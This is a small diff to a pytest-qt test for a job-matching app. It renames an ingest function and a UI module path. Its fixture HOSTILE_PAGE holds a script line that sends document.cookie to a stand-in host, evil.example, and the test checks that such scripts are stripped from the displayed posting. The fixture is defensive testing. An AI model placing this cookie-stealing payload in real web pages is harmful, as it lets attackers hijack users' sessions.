@@ -9,8 +9,8 @@ from PySide6.QtGui import QTextDocument
 from pytestqt.qtbot import QtBot
 
 from matcher.domain import RankedMatch, ScoreBreakdown
-from matcher.ingest.jobs import read_job_file
-from matcher.ui.detail_pane import DetailPane, OfflineBrowser
+from matcher.ingest.postings import read_posting_file
+from matcher.ui.detail.pane import DetailPane, OfflineBrowser
 
 HOSTILE_PAGE = """<html><head><title>Data Engineer at Acme</title>
 <script>document.location='http://evil.example/steal?c='+document.cookie</script>
@@ -24,7 +24,7 @@ HOSTILE_PAGE = """<html><head><title>Data Engineer at Acme</title>
 def test_hostile_html_posting_is_shown_without_scripts_or_remote_resources(qtbot: QtBot, tmp_path: Path) -> None:
     page = tmp_path / "posting.html"
     page.write_text(HOSTILE_PAGE, encoding="utf-8")
-    [posting] = read_job_file(page).postings
+    [posting] = read_posting_file(page).postings
     posting.id = 1
     assert "document.cookie" not in posting.description and "alert(" not in posting.description
 
